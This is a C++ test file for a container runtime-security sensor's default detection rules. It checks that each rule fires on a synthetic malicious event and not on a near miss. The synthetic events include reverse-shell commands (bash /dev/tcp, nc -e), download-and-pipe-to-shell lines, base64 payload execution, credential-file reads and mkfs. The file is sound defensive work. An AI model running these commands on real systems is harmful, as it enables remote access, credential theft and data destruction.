// The default ruleset: loads strictly, every rule is tagged, and each rule
// fires on a synthetic event of its behaviour and not on a near miss.
#include <catch2/catch.hpp>

#include <regex>
#include <set>

#include "rules/internal.hpp"
#include "rules_test_util.hpp"

using namespace vigil;
using namespace rt;

namespace {

[[maybe_unused]] Event res(Event ev, int64_t r) {
  ev.has_res = true;
  ev.res = r;
  return ev;
}

Event arg(Event ev, const char* name, const char* value) {
  ev.args.push_back({name, value});
  return ev;
}

// A DNS message as the tracer reports it: typed after its syscall (a sendto
// row, or recvfrom/read/... in the DNS window), which the DNS rules name.
Event dns_msg(Event ev, const char* type = "recvfrom") {
  ev.type = type;
  return ev;
}

Event mode(Event ev, int64_t m) {
  ev.file->mode = m;
  return ev;
}

std::vector<Case> default_cases() {
  std::vector<Case> c;
  auto nginx = proc("/usr/sbin/nginx", {"nginx"}, nullptr, 2);
  auto user = [](std::shared_ptr<Process> p, int uid) {
    p->uid = p->euid = uid;
    return p;
  };
  c.push_back({"Crypto miner executed", exec_ev("/tmp/.x/xmrig", {"xmrig", "-o", "pool:3333"}), exec_ev("/usr/bin/xmllint", {"xmllint", "a.xml"})});
  c.push_back({"Crypto miner executed", exec_ev("/tmp/k", {"k", "-o", "stratum+tcp://pool.example:3333"}), exec_ev("/tmp/k", {"k", "-o", "https://x"})});
  c.push_back({"Connection to a crypto-mining pool port", connect_ev("203.0.113.5", 3333), connect_ev("203.0.113.5", 443)});
  c.push_back({"Mining protocol spoken", arg(connect_ev("203.0.113.5", 443, nullptr, "sendmsg"), "protocol", "stratum"),
               connect_ev("203.0.113.5", 443, nullptr, "sendmsg")});
  c.push_back({"Mining pool domain queried", dns_msg(dns_ev("xmr-eu1.nanopool.org"), "sendto"),
               dns_msg(dns_ev("nanopool.org.example.com"), "sendto")});
  c.push_back({"Reverse shell", exec_p(with(proc("/bin/bash", {"bash", "-i"}), [](Process& p) { p.stdio_net = true; })),
               exec_ev("/bin/bash", {"bash", "-i"})});
  c.push_back({"Reverse shell", exec_ev("/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"}),
               exec_ev("/bin/bash", {"bash", "-c", "ls /dev"})});
  c.push_back({"Standard stream redirected to a network socket",
               connect_ev("203.0.113.5", 4444, nullptr, "dup2"),
               unix_connect("/run/x.sock")});
  c.back().hit.args = {{"oldfd", "3"}, {"newfd", "0"}, {"oldfd_kind", "socket"}};
  c.back().miss.type = "dup2";
  c.back().miss.args = {{"oldfd", "3"}, {"newfd", "0"}, {"oldfd_kind", "socket"}};
  c.push_back({"Socat or netcat spawning a program", exec_ev("/usr/bin/socat", {"socat", "TCP:203.0.113.5:4444", "EXEC:/bin/sh"}),
               exec_ev("/usr/bin/socat", {"socat", "TCP-LISTEN:80", "TCP:app:8080"})});
  c.push_back({"Socat or netcat spawning a program", exec_ev("/bin/nc", {"nc", "203.0.113.5", "4444", "-e", "/bin/sh"}),
               exec_ev("/bin/nc", {"nc", "-z", "db", "5432"})});
  c.push_back({"Shell spawned by a network service", exec_ev("/bin/sh", {"sh", "-c", "id"}, nginx), exec_ev("/bin/sh", {"sh", "-c", "id"})});
  auto gunicorn = proc("/usr/local/bin/gunicorn", {"gunicorn", "app:app"}, nullptr, 3);
  c.push_back({"Shell spawned by a network service", exec_ev("/usr/bin/python3", {"python3", "-c", "import pty"}, gunicorn),
               exec_ev("/usr/bin/python3", {"python3", "/app/worker.py"}, gunicorn)});
  c.push_back({"Shell spawned by a network service", exec_ev("/usr/bin/id", {"id"}, gunicorn), exec_ev("/usr/bin/id", {"id"})});
  c.push_back({"Decoded payload piped into a shell", exec_ev("/bin/sh", {"sh", "-c", "echo aWQK | base64 -d | sh"}),
               exec_ev("/bin/sh", {"sh", "-c", "echo aWQK | base64 -d > /tmp/out"})});
  c.push_back({"Decoded payload piped into a shell", exec_ev("/bin/bash", {"bash", "-c", "xxd -r -p /tmp/p | bash -s"}),
               exec_ev("/bin/bash", {"bash", "-c", "xxd -r -p /tmp/p | sha256sum"})});
  c.push_back({"Decoded payload piped into a shell", exec_ev("/bin/sh", {"sh", "-c", "openssl enc -d -aes-256-cbc -in p | /bin/sh"}),
               exec_ev("/bin/sh", {"sh", "-c", "openssl enc -d -aes-256-cbc -in p -out q"})});
  c.push_back({"Decoded payload piped into a shell",
               exec_ev("/usr/bin/python3", {"python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"}),
               exec_ev("/usr/bin/python3", {"python3", "-c", "import base64;print(base64.b64decode('cHJpbnQoMSk='))"})});
  c.push_back({"Decoded payload piped into a shell", exec_ev("/usr/bin/perl", {"perl", "-MMIME::Base64", "-e", "eval(decode_base64('cHJpbnQgMQ=='))"}),
               exec_ev("/usr/bin/perl", {"perl", "-MMIME::Base64", "-e", "print(decode_base64('cHJpbnQgMQ=='))"})});
  c.push_back({"Hidden executable run", exec_ev("/tmp/.cache/kworker", {"kworker"}), exec_ev("/root/.local/bin/pip", {"pip"})});
  c.push_back({"Hidden executable run", exec_ev("/tmp/.x", {"/tmp/.x"}), exec_ev("/app/node_modules/.bin/tsc", {"tsc"})});
  c.push_back({"Hidden executable run", exec_p(with(proc("/bin/sh", {"sh", "/var/tmp/.s/run.sh"}), [](Process& p) { p.interpreter_script = "/var/tmp/.s/run.sh"; })),
               exec_p(with(proc("/bin/sh", {"sh", "/app/.venv/bin/activate"}), [](Process& p) { p.interpreter_script = "/app/.venv/bin/activate"; }))});
  c.push_back({"Download piped into a shell", exec_ev("/bin/sh", {"sh", "-c", "wget -qO- http://x/i | sudo bash -s"}),
               exec_ev("/bin/sh", {"sh", "-c", "curl -s http://x/i.tgz | sha256sum"})});
  c.push_back({"Download piped into a shell", exec_ev("/bin/sh", {"sh", "-c", "curl -s http://x/i.sh | sh"}),
               exec_ev("/bin/sh", {"sh", "-c", "curl -s http://x/i.sh -o /tmp/i.sh"})});
  c.push_back({"Offensive tool executed", exec_ev("/usr/bin/nmap", {"nmap", "-sS", "10.0.0.0/24"}), exec_ev("/usr/bin/nano", {"nano"})});
  c.push_back({"Drifted binary executed", exec_p(with(proc("/tmp/payload", {"payload"}), [](Process& p) { p.exe_drift = true; })),
               exec_ev("/tmp/payload", {"payload"})});
  auto drifted = [](const char* reason) {
    return exec_p(with(proc("/src/app", {"./app"}), [&](Process& p) { p.exe_drift = true, p.exe_drift_reason = reason; }));
  };
  c.push_back({"Drifted binary executed", drifted("traced_write"), drifted("toolchain_build")});
  c.push_back({"Program built in the container run", drifted("toolchain_build"), drifted("traced_write")});
  Event lib = file_op("mmap", "/tmp/libevil.so");
  lib.args = {{"drift", "traced_write"}};
  c.push_back({"Drifted library loaded", lib, file_op("mmap", "/usr/lib/libc.so.6")});
  Event built_lib = file_op("mmap", "/src/libapp.so");
  built_lib.args = {{"drift", "toolchain_build"}};
  c.push_back({"Drifted library loaded", lib, built_lib});
  c.push_back({"Fileless execution from memory", exec_p(with(proc("memfd:x", {"x"}), [](Process& p) { p.exe_from_memfd = true; })),
               exec_ev("/bin/ls", {"ls"})});
  c.push_back({"Program run from /dev/shm", exec_ev("/dev/shm/.x", {"/dev/shm/.x"}), exec_ev("/dev/null2", {"x"})});
  // a program run through the dynamic loader: its arguments name it
  const char* ldso = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2";
  c.push_back({"Program run from /dev/shm", exec_ev(ldso, {"ld-linux-x86-64.so.2", "--argv0", "x", "/dev/shm/x"}),
               exec_ev(ldso, {"ld-linux-x86-64.so.2", "/usr/bin/true"})});
  c.push_back({"Hidden executable run", exec_ev(ldso, {"ld-linux-x86-64.so.2", "/tmp/.x/miner"}),
               exec_ev(ldso, {"ld-linux-x86-64.so.2", "../build/prog", "./a.out"})});
  c.push_back({"Hidden executable run", exec_ev(ldso, {"ld-linux-x86-64.so.2", ".m"}), exec_ev(ldso, {"ld-linux-x86-64.so.2", "--list", "a.b"})});
  c.push_back({"Password database read", open_ev("/etc/shadow", O_RDONLY), open_ev("/etc/shadow", O_RDONLY, proc("/usr/bin/passwd", {"passwd"}))});
  c.push_back({"SSH private key read", open_ev("/root/.ssh/id_ed25519", O_RDONLY), open_ev("/root/.ssh/id_ed25519.pub", O_RDONLY)});
  c.push_back({"Cloud credentials read by a command-line tool", open_ev("/root/.aws/credentials", O_RDONLY),
               open_ev("/root/.aws/credentials", O_RDONLY, proc("/usr/bin/java", {"java", "-jar", "app.jar"}))});
  c.push_back({"Credential search with grep or find", exec_ev("/bin/grep", {"grep", "-ri", "aws_secret_access_key", "/"}),
               exec_ev("/bin/grep", {"grep", "-ri", "error", "/var/log"})});
  c.push_back({"Other process environment read", open_ev("/proc/1/environ", O_RDONLY), open_ev("/proc/self/environ", O_RDONLY)});
  c.push_back({"Authentication configuration modified", open_ev("/etc/sudoers.d/backdoor", O_WRONLY | O_CREAT),
               open_ev("/etc/sudoers.d/backdoor", O_RDONLY)});
  c.push_back({"Authentication configuration modified", file_op("renameat2", "/tmp/p", "/etc/pam.d/sshd"), file_op("renameat2", "/tmp/p", "/tmp/q")});
  c.push_back({"Authentication configuration modified", file_op("linkat", "/etc/sudoers.d/x", "/tmp/mine"), file_op("linkat", "/tmp/y", "/etc/sudoers")});
  c.push_back({"SSH authorized keys modified", open_ev("/root/.ssh/authorized_keys", O_WRONLY | O_APPEND),
               open_ev("/root/.ssh/authorized_keys", O_RDONLY)});
  c.push_back({"Cron job modified", open_ev("/etc/cron.d/job", O_WRONLY | O_CREAT), open_ev("/etc/cron.d.txt", O_WRONLY | O_CREAT)});
  c.push_back({"Startup script modified", open_ev("/root/.bashrc", O_WRONLY | O_APPEND), open_ev("/root/.bashrc", O_RDONLY)});
  c.push_back({"Dynamic linker preload configured", open_ev("/etc/ld.so.preload", O_WRONLY | O_CREAT), open_ev("/etc/ld.so.preload", O_RDONLY)});
  c.push_back({"System binary directory written", open_ev("/usr/bin/ls", O_WRONLY | O_TRUNC),
               open_ev("/usr/bin/ls", O_WRONLY | O_TRUNC, proc("/usr/bin/dpkg", {"dpkg", "-i", "x.deb"}))});
  c.push_back({"Log file cleared or removed", arg(open_ev("/var/log/nginx/access.log", O_WRONLY | O_TRUNC), "overwrites", "true"),
               open_ev("/var/log/nginx/access.log", O_WRONLY | O_TRUNC)});  // a new (empty) log: not clearing
  c.push_back({"Log file cleared or removed", file_op("truncate", "/var/log/app.log"), file_op("truncate", "/srv/app.log")});
  // rotation: the compressor removes the renamed copy; a shell removing it is still clearing
  c.push_back({"Log file cleared or removed", file_op("unlinkat", "/var/log/app.log.1", "", proc("/bin/rm", {"rm", "-f", "/var/log/app.log.1"})),
               file_op("unlinkat", "/var/log/app.log.1", "", proc("/bin/gzip", {"gzip", "/var/log/app.log.1"}))});
  c.push_back({"Log file cleared or removed", file_op("unlinkat", "/var/log/app.log", "", proc("/bin/gzip", {"gzip", "/var/log/app.log"})),
               file_op("unlinkat", "/var/log/app-20261123.gz", "", proc("/usr/local/bin/app", {"app"}))});
  c.push_back({"Log file cleared or removed", file_op("unlinkat", "/root/.bash_history"), file_op("unlinkat", "/root/.cache/x")});
  c.push_back({"Setuid or setgid bit set", mode(file_op("fchmodat", "/tmp/sh"), 04755), mode(file_op("fchmodat", "/tmp/sh"), 0755)});
  c.push_back({"Sensor files tampered with", open_ev("/vigil/rootfs/bin/vigil", O_WRONLY | O_TRUNC), open_ev("/vigil/rootfs/bin/vigil", O_RDONLY)});
  c.push_back({"Ptrace injection", syscall_ev("ptrace", {{"request", "PTRACE_POKETEXT"}, {"pid", "1"}}),
               syscall_ev("ptrace", {{"request", "PTRACE_TRACEME"}})});
  // No exemption by name: a binary called gdb attaching is an injection like any other.
  c.push_back({"Ptrace injection", syscall_ev("ptrace", {{"request", "PTRACE_ATTACH"}}, proc("/tmp/gdb", {"gdb", "-p", "1"})),
               syscall_ev("ptrace", {{"request", "PTRACE_TRACEME"}}, proc("/tmp/gdb", {"gdb"}))});
  c.push_back({"Ptrace anti-debugging", syscall_ev("ptrace", {{"request", "PTRACE_TRACEME"}}), syscall_ev("ptrace", {{"request", "PTRACE_GETREGS"}})});
  c.push_back({"Process memory written through /proc", open_ev("/proc/1/mem", O_RDWR), open_ev("/proc/1/mem", O_RDONLY)});
  c.push_back({"Process memory written with process_vm_writev", syscall_ev("process_vm_writev", {{"pid", "1"}}),
               syscall_ev("process_vm_readv", {{"pid", "1"}})});
  c.push_back({"Kernel module load attempted", syscall_ev("finit_module", {}), syscall_ev("uname", {})});
  c.push_back({"Kernel module load attempted", exec_ev("/sbin/modprobe", {"modprobe", "x"}), exec_ev("/sbin/lsmod", {"lsmod"})});
  c.push_back({"Kernel module load attempted", open_ev("/tmp/rootkit.ko", O_WRONLY | O_CREAT), open_ev("/tmp/rootkit.ko", O_RDONLY)});
  c.push_back({"Kernel module load attempted", exec_ev("/bin/busybox", {"busybox", "insmod", "/tmp/r.ko"}), exec_ev("/bin/busybox", {"busybox", "ls"})});
  c.push_back({"Kernel module list read", exec_ev("/sbin/lsmod", {"lsmod"}), exec_ev("/sbin/modinfo", {"modinfo"})});
  c.push_back({"Kernel module list read", exec_ev("/bin/cat", {"cat", "/proc/modules"}), exec_ev("/bin/cat", {"cat", "/proc/cpuinfo"})});
  c.push_back({"io_uring set up", syscall_ev("io_uring_setup", {}), syscall_ev("epoll_create1", {})});
  c.push_back({"Mount attempted in container", file_op("mount", "/dev/sda1", "/mnt"), file_op("statfs", "/mnt")});
  c.push_back({"Namespace change attempted", syscall_ev("unshare", {{"flags", "CLONE_NEWUSER"}}), syscall_ev("clone", {})});
  c.push_back({"Cgroup release_agent modified", open_ev("/sys/fs/cgroup/rdma/release_agent", O_WRONLY),
               open_ev("/sys/fs/cgroup/rdma/release_agent", O_RDONLY)});
  c.push_back({"Container runtime binary overwritten", open_ev("/proc/self/exe", O_WRONLY), open_ev("/proc/self/exe", O_RDONLY)});
  c.push_back({"Userfaultfd or secret memory used", syscall_ev("userfaultfd", {}), syscall_ev("eventfd2", {})});
  c.push_back({"Userfaultfd or secret memory used", syscall_ev("memfd_secret", {}), syscall_ev("memfd_create", {})});
  c.push_back({"Docker socket accessed", unix_connect("/var/run/docker.sock"), unix_connect("/var/run/app.sock")});
  c.push_back({"Privilege raised to root", syscall_ev("setuid", {{"uid", "0"}}, user(proc("/tmp/x", {"x"}), 1000)),
               syscall_ev("setuid", {{"uid", "0"}}, user(proc("/tmp/x", {"x"}), 0))});
  c.push_back({"Cloud metadata contacted by a tool", connect_ev("169.254.169.254", 80),
               connect_ev("169.254.169.254", 80, proc("/usr/bin/java", {"java", "-jar", "app.jar"}))});
  c.push_back({"Cloud metadata URL on a command line", exec_ev("/usr/bin/curl", {"curl", "http://169.254.169.254/latest/meta-data/"}),
               exec_ev("/usr/bin/curl", {"curl", "http://10.0.0.1/health"})});
  c.push_back({"ECS task credentials requested by a tool or script", connect_ev("169.254.170.2", 80),
               connect_ev("169.254.170.2", 80, proc("/usr/bin/java", {"java", "-jar", "app.jar"}))});
  c.push_back({"ECS task credentials requested by a tool or script",
               connect_ev("169.254.170.2", 80, proc("/usr/bin/python3", {"python3", "-c", "import urllib.request"})),
               connect_ev("169.254.170.2", 80, proc("/usr/bin/python3", {"python3", "/app/server.py"}))});
  c.push_back({"ECS task credentials requested by a tool or script", exec_ev("/usr/bin/curl", {"curl", "http://169.254.170.2/v2/credentials/abc"}),
               exec_ev("/usr/bin/curl", {"curl", "http://169.254.170.2/v2/metadata"})});
  c.push_back({"ECS task credentials requested by a tool or script",
               exec_ev("/bin/sh", {"sh", "-c", "wget -qO- 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"}),
               exec_ev("/bin/sh", {"sh", "-c", "echo $AWS_REGION"})});
  c.push_back({"Instance metadata service contacted", connect_ev("169.254.169.254", 80, proc("/app/server", {"server"})),
               connect_ev("169.254.170.2", 80, proc("/app/server", {"server"}))});
  c.push_back({"DNS answer points at the metadata service", dns_msg(dns_ev("rebind.example.com", {"169.254.169.254"})),
               dns_msg(dns_ev("example.com", {"93.184.216.34"}))});
  c.push_back({"Tor client or relay activity", connect_ev("203.0.113.7", 9001), connect_ev("203.0.113.7", 9000)});
  c.push_back({"Container environment reconnaissance", exec_ev("/usr/bin/find", {"find", "/", "-perm", "-4000"}), exec_ev("/usr/bin/find", {"find", ".", "-name", "*.c"})});
  c.push_back({"Package manager run in container", exec_ev("/usr/bin/apt-get", {"apt-get", "install", "nmap"}), exec_ev("/usr/bin/aptly", {"aptly"})});
  c.push_back({"Language package manager run in container", exec_ev("/usr/bin/pip", {"pip", "install", "x"}), exec_ev("/usr/bin/python3", {"python3"})});
  c.push_back({"Bulk data destruction tool", exec_ev("/sbin/mkfs.ext4", {"mkfs.ext4", "/dev/sdb"}), exec_ev("/bin/rm", {"rm", "x"})});
  return c;
}

}  // namespace

TEST_CASE("the default ruleset loads with --strict and every rule is tagged with MITRE IDs", "[rules][default]") {
  RulesConfig cfg;
  cfg.files = {source_rules_dir()};
  cfg.strict = true;
  std::string err;
  auto e = Engine::load(cfg, &err);
  INFO(err);
  REQUIRE(e);
  std::regex mitre("T\\d{4}(\\.\\d{3})?|TA\\d{4}");
  size_t rules = 0;
  for (const auto& r : e->rules()) {
    INFO(r.name);
    CHECK(r.active);
    CHECK(std::any_of(r.tags.begin(), r.tags.end(), [&](const std::string& t) { return std::regex_match(t, mitre); }));
    rules += !r.detector;
  }
  CHECK(rules >= 45);
}

TEST_CASE("every default rule fires on its behaviour and not on a near miss", "[rules][default]") {
  auto e = engine_from({source_rules_dir()});
  std::set<std::string> covered;
  for (const auto& c : default_cases()) {
    INFO("rule: " << c.rule);
    CHECK(fires(*e, c.hit, c.rule));
    CHECK_FALSE(fires(*e, c.miss, c.rule));
    covered.insert(c.rule);
  }
  for (const auto& r : e->rules())
    if (!r.detector) {
      INFO("default rule without a case: " << r.name);
      CHECK(covered.count(r.name));
    }
}

TEST_CASE("benign activity raises no default alert of priority warning or above", "[rules][default]") {
  auto e = engine_from({source_rules_dir()});
  auto make = proc("/usr/bin/make", {"make", "-j2"});
  auto py = proc("/usr/bin/python3", {"python3", "-m", "http.server"});
  std::vector<Event> benign = {
      exec_ev("/usr/bin/cc", {"cc", "-O2", "-c", "main.c"}, make),
      exec_ev("/bin/sh", {"sh", "-c", "cc -o app main.o"}, make),
      open_ev("/src/main.o", O_WRONLY | O_CREAT | O_TRUNC, make),
      exec_ev("/usr/bin/git", {"git", "commit", "-m", "x"}),
      open_ev("/src/.git/index.lock", O_WRONLY | O_CREAT | O_EXCL),
      file_op("rename", "/src/.git/index.lock", "/src/.git/index"),
      open_ev("/etc/passwd", O_RDONLY, py),
      open_ev("/usr/lib/python3.11/json/__init__.py", O_RDONLY, py),
      open_ev("/srv/www/index.html", O_RDONLY, py),
      connect_ev("10.0.1.20", 5432, py),
      connect_ev("169.254.170.2", 80, py),
      exec_ev("/bin/tar", {"tar", "czf", "/tmp/a.tgz", "/src"}),
      exec_ev("/bin/gzip", {"gzip", "-9", "/tmp/a"}),
      exec_ev("/usr/bin/python3", {"python3", "-m", "venv", "/tmp/venv"}),
      open_ev("/tmp/venv/bin/python3", O_WRONLY | O_CREAT | O_TRUNC),
      exec_ev("/tmp/venv/bin/pip", {"pip", "install", "requests"}),
      dns_ev("api.github.com", {"140.82.112.6"}),
      dns_ev("d1a2b3c4.cloudfront.net"),
  };
  std::vector<Alert> out;
  for (const auto& ev : benign) e->evaluate(ev, &out);
  // Not vacuous: the engine ran and raised the low-priority alerts benign work
  // is expected to raise (a Notice for pip), and nothing at Warning or above.
  std::multiset<std::string> low;
  for (const auto& a : out) {
    INFO(a.output);
    CHECK(rules::priority_rank(a.priority) > rules::priority_rank("Warning"));
    low.insert(a.rule);
  }
  CHECK(low == std::multiset<std::string>{"Language package manager run in container"});
}

TEST_CASE("the default rules name their files for changes and their credential files for reads", "[rules][default]") {
  RulesConfig cfg;
  cfg.files = {source_rules_dir()};
  std::string err;
  auto e = Engine::load(cfg, &err);
  REQUIRE(e);
  const auto& named = e->interest().named_paths;
  auto at = [&](const std::string& p) -> const Engine::Interest::NamedPath& {
    INFO(p);
    REQUIRE(named.count(p) == 1);
    return named.at(p);
  };
  CHECK((at("/etc/ld.so.preload").block && at("/etc/ld.so.preload").write && !at("/etc/ld.so.preload").read));
  CHECK((!at("/etc/passwd").block && at("/etc/passwd").write));  // Authentication configuration modified (alert)
  CHECK((at("/usr/bin").write && !at("/usr/bin").read));         // System binary directory written
  CHECK((at("/etc/shadow").read && at("/etc/shadow").write));     // read (Password database read) and changed
  CHECK(named.count("/usr/lib/python3") == 0);                    // an exception (`not fd.name pmatch`)
  // Per-user directories named anywhere (`contains /.ssh/`): watched below every home.
  const auto& homes = e->interest().home_paths;
  REQUIRE(homes.count(".ssh") == 1);
  CHECK((homes.at(".ssh").write && homes.at(".ssh").read));  // SSH authorized keys modified, SSH private key read
  REQUIRE(homes.count(".aws") == 1);
  CHECK((homes.at(".aws").read && !homes.at(".aws").write));  // Cloud credentials read by a command-line tool
  CHECK(homes.count(".config/gcloud") == 1);
}
